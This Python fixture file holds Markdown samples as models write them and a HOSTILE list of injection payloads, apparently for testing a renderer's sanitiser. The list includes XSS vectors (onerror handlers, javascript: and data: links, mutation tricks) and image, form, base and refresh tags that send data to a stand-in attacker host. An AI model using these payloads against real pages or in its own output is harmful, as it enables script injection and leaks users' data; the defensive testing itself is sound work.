"""Markdown as models write it, and Markdown as attackers would have them write it."""
# ruff: noqa: E501 - a line break inside a sample would change what it is

RICH = {
    "prose": "One **bold** and *soft* word, `code`, ~~gone~~.\nSecond line.\n\nA new paragraph "
    "with https://example.org/a?b=c and [a link](https://example.org 'title').\n",
    "citations": "Paid in ten days [1]. Two at once [1][2], unknown [9], a link [1](https://x.org)."
    "\n\n报销在**十个工作日**内支付[2]。繁體中文「**測試**」是[3]。\n",
    "headings": "# One\ntext\n\nSetext\n---\n\nmore\n===\n\n###### Six\n",
    "lists": "- a\n- b\n  - c\n    1. d\n    2. e\n\n- loose\n\n  with a paragraph\n\n5. five\n6. six\n"
    "\n* star\n+ plus\n",
    "tasks": "- [ ] open **now**\n- [x] done\n- [X] also\n- [] not a task\n- [1] a source\n\nafter\n",
    "code": "Before\n\n```python\ndef f(x):\n    return x  # ``\n\n~~~\n```\n\n~~~\nplain\n```\n~~~\n\n"
    "    indented\n\n- item\n  ```js\n  let a = 1;\n  ```\n\nafter\n",
    "open fence": "Text\n\n```sql\nselect *\nfrom t\n\nwhere a = 1",
    "table": "| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 [1] | 3 |\n| x | `y|` | z |\n\nafter the table\n",
    "quote": "> quoted\n> - list\n>\n> ```\n> code\n> ```\nlazy\n\n> another\n",
    "maths": "Inline $a^2 + b^2$ and \\(c\\), costs $5 and $6.\n\n$$\n\\int_0^1 x\n$$\n\n\\[ y = 1 \\]\n\n"
    "$$ not closed\n\nafter\n",
    "rules": "a\n\n---\n\n***\n\nb\n- c\n---\nd\n",
    "references": "[1]: https://example.org\n\n[1] and [x][1] and [1].\n",
    "html": "<b>not bold</b> <script>alert(1)</script>\n\n<div>\n\ntext\n\n</div>\n",
    "breaks": "two  \nspaces\\\nbackslash\r\nand windows\r\n\r\nlines &amp; entities &copy;\n",
    "emoji": "👩‍👩‍👧‍👦 family, 🇸🇬 flag, e\u0301 accent, \u200bzero, full　width。\n\n１. 不是列表\n",
}

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](https://attacker.example/p.png?q=secret)",
    "![x](//attacker.example/p.png)",
    "![x](/\\attacker.example/p.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![](https://attacker.example/a.png 'onerror=alert(1)')",
    "[![x](https://attacker.example/p.png)](https://attacker.example)",
    "<https://attacker.example/auto>",
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "$<img src=x onerror=alert(1)>$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\includegraphics{https://attacker.example/x.png}$$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <iframe src=//attacker.example> |",
    '[x](https://a.example/" onmouseover="alert(1))',
    "[1](javascript:alert(1))",
    "<style>@import url(https://attacker.example)</style>",
    "<base href=https://attacker.example/>",
    "<form action=https://attacker.example><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<a href=x hx-get=/api/v1/me hx-trigger=load>x</a>",
    "<link rel=prefetch href=https://attacker.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "- [x] <img src=x onerror=alert(1)>",
]
